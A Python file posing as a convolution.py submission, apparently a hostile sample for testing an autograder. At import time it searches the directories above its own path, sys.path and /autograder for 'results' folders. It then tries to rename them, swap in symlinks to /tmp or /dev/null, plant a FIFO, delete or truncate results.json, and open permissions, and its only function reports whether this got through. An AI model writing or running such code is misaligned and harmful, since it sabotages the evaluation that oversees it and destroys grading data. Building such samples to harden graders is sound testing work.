"""Puts a folder, a link or a pipe of its own in the place of results/.

As: convolution.py
Earns: 1.7
"""

import os
import sys
from pathlib import Path

import common

WON = []
KNOWN = [__file__, common.__file__, "/autograder/x", *sys.path]
FOLDERS = {parent / "results" for place in KNOWN for parent in Path(place).resolve().parents}
for folder in FOLDERS:
    aside = folder.with_name("results-hostile")
    for attempt in (
        lambda: os.rename(folder, aside),
        lambda: os.symlink("/tmp", aside),
        lambda: os.mkfifo(folder / "results.json.part"),
        lambda: os.symlink("/dev/null", folder / "results.json.part"),
        lambda: os.remove(folder / "results.json"),
        lambda: os.chmod(folder, 0o777),
        lambda: os.truncate(folder / "results.json", 0),
    ):
        try:
            attempt()
            WON.append(str(folder))
        except OSError:
            pass


def conv_output_size(size, kernel_size, stride=1, padding=0):
    raise RuntimeError("GOT " + f"THROUGH to {WON}" if WON else "in vain")
